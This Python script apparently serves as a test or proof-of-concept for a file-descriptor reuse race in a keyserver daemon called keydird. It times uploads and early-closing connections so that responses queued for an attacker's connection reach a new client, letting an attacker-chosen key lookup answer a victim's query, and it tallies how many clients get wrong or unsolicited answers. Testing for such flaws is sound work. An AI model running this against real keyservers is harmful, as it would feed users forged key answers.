#!/usr/bin/env python3
"""A client that sends its requests and its end together, so that keydird
closes its connection while its answers still wait in Pistache's write
queue; the next connection accepted gets the same descriptor number. Those
answers went to that next client, ahead of its own: over TLS a whole answer
the attacker chose, which a client took for the answer to its own lookup.

One round, on a server with one worker:
  S  uploads many certificates: the worker is busy for a while;
  A  (the attacker) meanwhile sends its requests and shuts its side:
     plain: hundreds of large answers (more than the socket takes) and then
     the lookup of the attacker's key; TLS: only that lookup (keydird queues
     every TLS answer);
  C  another slow upload, read by the worker right after A;
  V1 a new connection, so that the queue of new connections is ready too;
  and then, while the worker is busy with C (A is closed by then), ten new
  clients, one of which gets A's descriptor number.
Each new client first waits (without asking anything) until the worker has
answered C and two later requests: nothing may arrive, though keydird may
have cut it (a reset: the client would ask again). Then it asks for the
index of the victim's key: the first answer must be that.

  fd_reuse.py MODE PORT UPLOAD.pgp BIG_QUERY VICTIM_FPR ATTACK_FPR ROUNDS
MODE: plain or tls (no certificate check: loopback). Prints
  rounds N clients N answered N cut N lost N unsolicited N wrong N
or, with MODE churn (PORT SECONDS): connections opened and closed without
a request, one after another, while fresh clients ask for /healthz:
  churned N asked N answered N
"""
import socket
import ssl
import sys
import threading
import time
import urllib.parse

from httpio import armored, read_response

VICTIMS = 10


def churn(port, seconds):
    """Opens and closes connections without a request while fresh clients
    ask: none of those may be cut."""
    end = time.time() + seconds
    churned = [0]

    def opener():
        while time.time() < end:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=5).close()
                churned[0] += 1
            except OSError:
                pass

    t = threading.Thread(target=opener)
    t.start()
    asked = answered = 0
    while time.time() < end:
        asked += 1
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
            head, _ = read_response(s)
            s.close()
            if head.startswith(b"HTTP/1.1 200"):
                answered += 1
        except OSError:
            pass
    t.join()
    print(f"churned {churned[0]} asked {asked} answered {answered}")


def main():
    if sys.argv[1] == "churn":
        churn(int(sys.argv[2]), float(sys.argv[3]))
        return
    mode, port, upfile, big, victim_fpr, attack_fpr, rounds = sys.argv[1:8]
    port, rounds = int(port), int(rounds)
    tls = mode == "tls"
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    body = b"keytext=" + urllib.parse.quote_plus(armored(open(upfile, "rb").read())).encode()
    upload = (b"POST /pks/add HTTP/1.1\r\nHost: a\r\n"
              b"Content-Type: application/x-www-form-urlencoded\r\n"
              b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    ping = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"

    def index(fpr, close=False):
        return (b"GET /pks/lookup?op=index&options=mr&search=0x" + fpr.encode() +
                b" HTTP/1.1\r\nHost: a\r\n" + (b"Connection: close\r\n" if close else b"") +
                b"\r\n")

    def connect(rcvbuf=None):
        s = socket.socket()
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(60)
        s.connect(("127.0.0.1", port))
        return ctx.wrap_socket(s) if tls else s

    def answer(s):
        head, body = read_response(s)
        return head + b"\r\n\r\n" + body

    # How long an upload keeps the worker busy (the second one: the first
    # also verifies every signature, and the rounds upload the same keys).
    s = connect()
    s.sendall(upload)
    answer(s)
    t0 = time.time()
    s.sendall(upload)
    answer(s)
    busy = max(time.time() - t0, 0.02)
    s.close()

    clients = unsolicited = wrong = cut = lost = answered = 0
    for _ in range(rounds):
        S, A, C = connect(), connect(rcvbuf=1024), connect()
        time.sleep(0.05)  # all three are the worker's
        S.sendall(upload)
        t_s = time.time()

        def until(fraction):  # `fraction` of an upload's time after S's
            time.sleep(max(0.0, t_s + busy * fraction - time.time()))

        until(0.1)
        if tls:
            A.sendall(index(attack_fpr))
            A.close()
        else:
            A.sendall(("GET " + big + " HTTP/1.1\r\nHost: a\r\n\r\n").encode() * 300 +
                      index(attack_fpr))
            A.shutdown(socket.SHUT_WR)
        until(0.15)
        C.sendall(upload)
        until(0.2)
        victims = [connect()]
        # S is answered at about 1.0, then A's connection is closed (after
        # its answers are made), and the worker is on C until about 2.0 and
        # more.
        for i in range(VICTIMS):
            until(1.0 + 0.1 * i)
            victims.append(connect())
        # The worker has answered C, and then two more requests: whatever it
        # had queued is written by now.
        answer(C)
        for _ in range(2):
            S.sendall(ping)
            answer(S)
        for v in victims:
            clients += 1
            v.settimeout(0.05)
            try:
                got = v.recv(65536)
            except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
                got = None  # nothing came: it asks now
            except OSError:  # a reset, or TLS ended mid-record
                got = b""
            if got == b"":
                cut += 1  # keydird cut it before it asked: it would ask again
                v.close()
                continue
            if got is not None:
                unsolicited += 1
                print("a new client that asked nothing got", len(got), "octets:", got[:60],
                      flush=True)
                v.close()
                continue
            v.settimeout(60)
            try:
                v.sendall(index(victim_fpr, close=True))
                got = answer(v)
            except OSError:
                lost += 1  # keydird dropped a client that asked: never right
                print("a client that asked lost its connection", flush=True)
                v.close()
                continue
            if ("PUB:" + victim_fpr.upper()).encode() in got.upper():
                answered += 1
            else:
                wrong += 1
                print("a client asking for its key got:", got[:100], flush=True)
            v.close()
        for s in (S, A, C):
            s.close()
    print(f"rounds {rounds} clients {clients} answered {answered} cut {cut} lost {lost} "
          f"unsolicited {unsolicited} wrong {wrong}")


if __name__ == "__main__":
    main()
